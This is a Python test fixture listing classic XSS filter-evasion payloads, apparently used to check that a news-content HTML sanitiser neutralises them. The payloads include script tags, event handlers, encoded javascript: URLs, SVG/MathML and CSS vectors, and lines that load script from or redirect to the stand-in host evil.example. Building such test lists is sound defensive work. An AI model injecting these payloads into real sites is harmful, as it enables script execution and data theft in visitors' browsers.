"""Our own list of the classic XSS filter-evasion *shapes* (after the OWASP cheat sheet's categories), each a
string a hostile source might put in a headline, a byline, a body or a feed item."""

VECTORS = [
    # script elements: casings, broken-up tags, encodings, nesting
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script/xss src='//evil.example/x.js'></script>",
    "<<script>alert(3);//<</script>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "&lt;script&gt;alert('escaped text, must stay text')&lt;/script&gt;",
    '"><script>alert(5)</script>',
    "'';!--\"<XSS>=&{()}",
    "</title><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    # event handlers
    "<img src=x onerror=alert(8)>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<body onload=alert(9)>",
    "<div/onmouseover='alert(10)'>hover</div>",
    "<svg onload=alert(11)>",
    "<details open ontoggle=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<a href=x onclick=alert(14)>click</a>",
    # javascript:, vbscript:, data: URLs with entity, case and whitespace tricks
    '<a href="javascript:alert(15)">js</a>',
    '<a href="JaVaScRiPt:alert(16)">js</a>',
    '<a href="jav&#x09;ascript:alert(17)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(18)">newline</a>',
    '<a href=" &#14;  javascript:alert(19)">leading junk</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(20)">decimal</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(21)">hex</a>',
    '<a href="vbscript:msgbox(22)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=">data</a>',
    '<img src="javascript:alert(24)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMjUpPg==">',
    "<img src=`javascript:alert(26)`>",
    # SVG and MathML
    "<svg><script>alert(27)</script></svg>",
    '<svg><a xlink:href="javascript:alert(28)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(29) attributeName=x dur=1s>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(30)">m</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(31)>",
    # CSS
    '<div style="width: expression(alert(32));">css</div>',
    '<div style="background:url(javascript:alert(33))">css</div>',
    "<style>@import 'javascript:alert(34)';</style>",
    '<link rel="stylesheet" href="javascript:alert(35)">',
    # meta, base, frames, objects, forms
    '<meta http-equiv="refresh" content="0;url=javascript:alert(36)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(37)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(38)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(39)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCg0MCk8L3NjcmlwdD4=">',
    '<form action="javascript:alert(41)"><button>go</button></form>',
    '<button formaction="javascript:alert(42)">go</button>',
    '<isindex action="javascript:alert(43)" type=image>',
    # comments, CDATA, templates, noscript mutation
    "<!--<img src=x onerror=alert(44)>-->",
    "<![CDATA[<script>alert(45)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(46)>">',
    "<template><script>alert(47)</script></template>",
]

# Inert when parsed once as a browser does (kept to prove we do not turn them active): text that only looks like
# markup, a tag named "scr<script", backtick quotes (old IE only), comments, CDATA (a comment in HTML), and the
# mglyph/style mutation, which needs a sanitiser's serialise-and-reparse round trip to become active.
INERT = {VECTORS[i] for i in (5, 7, 9, 31, 36, 51, 52)}
